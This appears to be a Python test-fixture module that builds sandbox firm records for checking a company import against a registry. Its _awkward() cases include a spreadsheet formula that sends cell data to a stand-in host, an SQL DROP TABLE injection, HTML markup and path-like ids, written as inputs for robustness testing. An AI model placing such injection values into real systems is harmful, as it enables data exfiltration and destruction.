"""The firms in the sandbox: together they show every case that an import and a registry check meet (P3, P4)."""

import unicodedata
from dataclasses import dataclass, field
from datetime import date, datetime
from typing import Any

from integrations.sandbox import companies as register
from integrations.sandbox.companies import Company, registration_code
from integrations.trigon.sandbox_records import ZONE, Record

ORDINARY = "ordinary"


@dataclass(slots=True)
class Firm:
    """As typed in Trigon. `case` says what is special about it and is not sent."""

    id: str
    name: str
    registration_code: str | None = None
    vat_number: str | None = None
    country: str = "EE"
    status: str = "active"
    permissions: list[str] = field(default_factory=lambda: ["list", "view"])
    email: str | None = None
    phone: str | None = None
    created_at: datetime = datetime(2021, 3, 1, 8, 15, tzinfo=ZONE)
    updated_at: datetime = datetime(2024, 9, 30, 16, 40, 12, tzinfo=ZONE)
    case: str = ORDINARY
    busy: float = 1.0  # how many records it enters, 1 = a firm of middle size
    records: list[Record] = field(default_factory=list)  # on top of those made up
    counts_fail: bool = False  # asking for its counts ends in an error of the server

    @property
    def opened(self) -> date:
        return self.created_at.astimezone(ZONE).date()

    def content(self) -> dict[str, Any]:
        """What is sent."""
        plain = ("id", "name", "registration_code", "vat_number", "country", "status", "permissions", "email")
        moments = {name: getattr(self, name).isoformat() for name in ("created_at", "updated_at")}
        return {name: getattr(self, name) for name in (*plain, "phone")} | moments


def generated_firms(count: int) -> list[Firm]:
    """Any number of ordinary firms, in the order of their ids, with the codes of `companies.company`."""
    return [_of(register.company(n), f"g_{n:07}", busy=0.1 + n % 13 / 13) for n in range(count)]


def sandbox_firms() -> list[Firm]:
    firms = [
        _of(company, f"f_{1001 + n}", busy=0.2 + n % 7 / 2) for n, company in enumerate(register.ORDINARY)
    ]
    for firm in firms[::6]:
        firm.vat_number = None
    return [*firms, *_flagged(), *_mistyped(), *_awkward(), *_abroad()]


def _of(company: Company, firm_id: str, *, case: str = ORDINARY, **changes: Any) -> Firm:
    number = int(company.code[1:7])
    values: dict[str, Any] = {
        "name": company.name,
        "registration_code": company.code,
        "vat_number": company.vat_number or None,
        "email": f"info@{_host(company.name)}.example",
        "phone": f"+372 555 {number // 100 % 100:02} {number % 100:02}",
        "created_at": datetime(2019 + number % 5, 1 + number % 12, 1 + number % 28, 9, 30, tzinfo=ZONE),
    }
    return Firm(id=firm_id, case=case, **(values | changes))


def _flagged() -> list[Firm]:
    """What the register has something to say about, or Trigon's rights."""
    return [
        _of(register.BANKRUPT, "f_1101", case="bankrupt"),
        _of(register.IN_LIQUIDATION, "f_1102", case="in liquidation"),
        _of(register.DELETED, "f_1103", case="deleted"),
        _of(register.RENAMED, "f_1104", case="renamed", name=register.RENAMED.former_names[0]),
        _of(register.OTHER_NAME, "f_1105", case="other name", name="Keskväljaku Kohvik OÜ"),
        _of(register.WITHOUT_VIEW, "f_1106", case="without view", permissions=["list"]),
        _of(register.ALSO_WITHOUT_VIEW, "f_1107", case="without view", permissions=["list"]),
        _of(register.ARCHIVED, "f_1108", case="archived", status="archived"),
        _of(register.company(77), "f_1109", case="archived", status="archived", email=None),
        _of(register.SHARED_CODE, "f_1110", case="shared code"),
        _of(register.SHARED_CODE, "f_1111", case="shared code", name="Kaksikvenna Pidulauad OÜ", email=None),
        _of(register.SOLE, "f_1112", case="sole trader"),
    ]


def _mistyped() -> list[Firm]:
    spaced, near = register.SPACED_CODE.code, register.NEAR_NAME.code
    turned = near[:3] + near[4] + near[3] + near[5:]  # two digits changed places
    unknown, vat = registration_code(1_999_990), register.company(12).vat_number
    wrong_digit = unknown[:7] + str((int(unknown[7]) + 3) % 10)
    in_groups = f"{spaced[:2]} {spaced[2:5]} {spaced[5:]} "
    return [
        _of(register.SPACED_CODE, "f_1201", case="spaced code", registration_code=in_groups),
        Firm("f_1202", "Koodita Käsitöö OÜ", None, case="no code", email="kasitoo@koodita.example"),
        Firm("f_1203", "Nimetu Naabri Aed", "", case="no code", email=""),
        Firm("f_1204", "Poolik Number OÜ", spaced[:7], case="malformed code"),
        Firm("f_1205", "Tähtedega Tehas OÜ", "puudub", case="malformed code", phone=""),
        Firm("f_1206", "Käibemaksu Kogemata OÜ", vat or "EE100000012", case="malformed code"),
        _of(register.WRONG_DIGIT, "f_1207", case="wrong digit, registered"),
        Firm("f_1208", "Viltuse Numbri Veod OÜ", wrong_digit, case="wrong digit, unknown"),
        Firm("f_1209", "Olematu Oja OÜ", unknown, case="unknown code", email="oja@olematu.example"),
        Firm("f_1210", "Hõbelusika Köök OÜ", turned, case="near name", email="arved@hobelusika.example"),
    ]  # fmt: skip


def _awkward() -> list[Firm]:
    """Names and ids that break programs which paste them together."""
    apart = unicodedata.normalize("NFD", "Öökulli Äri")  # letters and dots as two characters, as from a Mac
    return [
        _of(register.VERY_SHORT, "f_1301", case="very short name"),
        _of(register.VERY_LONG, "f_1302", case="300 letters", email=None),
        _of(register.QUOTED, "f_1303", case="quotes and semicolon"),
        _of(register.FORM_IN_FRONT, "f_1304", case="form in front", name="OÜ TEELEHE RAVIMTAIMED"),
        Firm("f_1305", '=HYPERLINK("http://kuri.example/?k="&A1;"Vaata")', case="formula", email="=1+1"),
        Firm("f_1306", "Robert'); DROP TABLE clients;--", case="sql", email="robert@koolid.example"),
        Firm("f_1307", "<b>Paks</b> & <img src=x> OÜ", case="markup", registration_code=None),
        Firm("f_1308", f"  {apart}  OÜ \t", case="blanks around", email=" info@ookull.example "),
        _of(register.OPAQUE_ID, "f/1309 ?k=1&ö%2F#..", case="opaque id"),
        Firm("..", "Kahe Punkti Pagar OÜ", case="id of dots", email=None, phone=None),
    ]


def _abroad() -> list[Firm]:
    return [
        Firm("f_1401", "Jūras Vēji SIA", "40209999902", "LV40209999902", "LV", case="abroad"),
        Firm("f_1402", "Revontuli Rakennus Oy", "9999991-7", "FI99999917", "FI", case="abroad"),
        Firm("f_1403", "Fjelløst Regnskap AS", "999999905", None, "NO", case="abroad", email="post@fjellost.example"),
    ]  # fmt: skip


def _host(name: str) -> str:
    """From "Õunaaia Talu OÜ" to "ounaaia-talu"."""
    plain = unicodedata.normalize("NFKD", name.removesuffix(" OÜ").lower()).encode("ascii", "ignore").decode()
    words = "".join(letter if letter.isalnum() else " " for letter in plain).split()
    return "-".join(words)[:60] or "firma"
